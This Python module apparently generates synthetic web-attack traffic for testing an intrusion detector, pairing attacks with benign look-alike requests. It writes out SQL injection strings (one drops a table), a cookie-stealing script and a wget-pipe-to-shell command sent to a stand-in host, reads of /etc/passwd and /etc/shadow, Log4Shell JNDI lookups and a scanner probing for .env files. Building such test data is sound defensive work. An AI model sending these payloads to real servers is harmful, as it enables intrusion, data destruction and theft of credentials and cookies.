"""Requests to web servers: attacks that are hidden in the encoding of URLs and bodies, and what people send."""

from __future__ import annotations

from random import Random
from urllib.parse import quote, quote_plus

from govsec.testing.packets import MILLISECOND, SECOND, START_NS, Conversation, Frame, merge, outside, station
from govsec.testing.trafficlogins import http_post

ATTACKER = outside("203.0.113.70")
WEB_SERVER = station(80)
_BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"
_HOST = "www.example.gov.cn"
_NOT_FOUND = b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"
_FOUND = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 12\r\n\r\n<html/>\n\n\n\n\n"


def http_get(target: str, *, agent: str = _BROWSER, headers: str = "") -> bytes:
    """A request without a body; ``headers`` are whole lines."""
    return f"GET {target} HTTP/1.1\r\nHost: {_HOST}\r\nUser-Agent: {agent}\r\n{headers}\r\n".encode()


def requests(rng: Random, time_ns: int, messages: list[tuple[bytes, bytes]], *, pause_ns: int) -> list[Frame]:
    """Each request on its own connection with its answer."""
    parts = []
    for number, (request, response) in enumerate(messages):
        talk = Conversation(rng, time_ns + number * pause_ns, ATTACKER, WEB_SERVER, 80).open()
        parts.append(talk.ask(request).answer(response).close().frames)
    return merge(*parts)


def sql_injection(rng: Random, *, time_ns: int = START_NS) -> list[Frame]:
    """Injection in the query, percent-encoded once and twice, and in a form's body."""
    tries = (
        "1' OR '1'='1' -- ",
        "1 UNION SELECT user,password FROM users",
        "1'; DROP TABLE filings; --",
        "1' AND SLEEP(5)#",
    )
    messages = [(http_get(f"/item?id={quote_plus(text)}"), _FOUND) for text in tries]
    messages += [(http_get(f"/item?id={quote(quote(text))}"), _FOUND) for text in tries]
    messages += [(http_post("/search", _HOST, f"q={quote_plus(text)}"), _FOUND) for text in tries]
    return requests(rng, time_ns, messages, pause_ns=700 * MILLISECOND)


def script_injection(rng: Random, *, time_ns: int = START_NS) -> list[Frame]:
    """Scripts and commands where a word should be."""
    texts = (
        "<script>document.location='http://203.0.113.9/'+document.cookie</script>",
        '"><img src=x onerror=alert(1)>',
        "127.0.0.1;cat /etc/passwd",
        "|wget http://203.0.113.9/x.sh -O- | sh",
    )
    messages = [(http_get(f"/find?word={quote(text, safe='')}"), _FOUND) for text in texts]
    return requests(rng, time_ns, messages, pause_ns=900 * MILLISECOND)


def path_traversal(rng: Random, *, time_ns: int = START_NS) -> list[Frame]:
    """Ways up to /etc/passwd: plain, encoded, encoded twice."""
    targets = (
        "/download?file=../../../../etc/passwd",
        "/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/static/%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fshadow",
        "/static/..%5c..%5c..%5cwindows%5cwin.ini",
    )
    return requests(rng, time_ns, [(http_get(target), _NOT_FOUND) for target in targets], pause_ns=800 * MILLISECOND)


def jndi_lookup(rng: Random, *, time_ns: int = START_NS) -> list[Frame]:
    """Look-ups that a careless logger follows: in a header, in nested braces, in a body; then the call-back."""
    evil = "${jndi:ldap://203.0.113.70:1389/a}"
    nested = "${${lower:j}ndi:${lower:l}dap://203.0.113.70:1389/b}"
    messages = [
        (http_get("/", agent=evil), _FOUND),
        (http_get(f"/?x={quote(nested, safe='')}"), _FOUND),
        (http_post("/login", _HOST, f"user={quote_plus(evil)}&password=x"), _FOUND),
    ]
    frames = requests(rng, time_ns, messages, pause_ns=SECOND)
    back = Conversation(rng, time_ns + 4 * SECOND, WEB_SERVER, ATTACKER, 1389).open()
    back.ask(bytes.fromhex("300c020101600702010304008000")).answer(bytes.fromhex("300c02010161070a010004000400"))
    return merge(frames, back.close().frames)


def web_scanner(rng: Random, *, time_ns: int = START_NS, requests_count: int = 150) -> list[Frame]:
    """A tool asks for everything that is often forgotten on servers, and is told 404."""
    words = ("admin", "backup", "phpmyadmin", ".git/config", ".env", "wp-login.php", "manager/html", "actuator/env")
    messages = []
    for number in range(requests_count):
        word = words[number] if number < len(words) else f"{rng.choice(words)}{number}.bak"
        messages.append((http_get(f"/{word}", agent="Mozilla/5.00 (Nikto/2.5.0)"), _NOT_FOUND))
    return requests(rng, time_ns, messages, pause_ns=100 * MILLISECOND)


def web_reading(rng: Random, *, time_ns: int = START_NS) -> list[Frame]:
    """Twin of all of these: people whose words look like it: quotes, "select", "union", dots, a broken link."""
    words = (
        "trade union members select committee",
        "O'Brien & sons",
        "如何办理社保转移 1=1?",
        "drop-off table reservation",
        "C:\\Users\\wang\\报告.docx",
        "a < b and c > d",
        "${date}",
    )
    messages = [(http_get(f"/search?q={quote_plus(word)}"), _FOUND) for word in words]
    messages += [(http_post("/comment", _HOST, f"text={quote_plus(word)}"), _FOUND) for word in words]
    messages += [(http_get("/css/../css/site.css"), _FOUND), (http_get("/old-page"), _NOT_FOUND)]
    parts = []
    for number, (request, response) in enumerate(messages):
        client = outside(f"198.51.100.{120 + number % 6}")
        talk = Conversation(rng, time_ns + number * 4 * SECOND, client, WEB_SERVER, 80).open()
        parts.append(talk.ask(request).answer(response).close().frames)
    return merge(*parts)
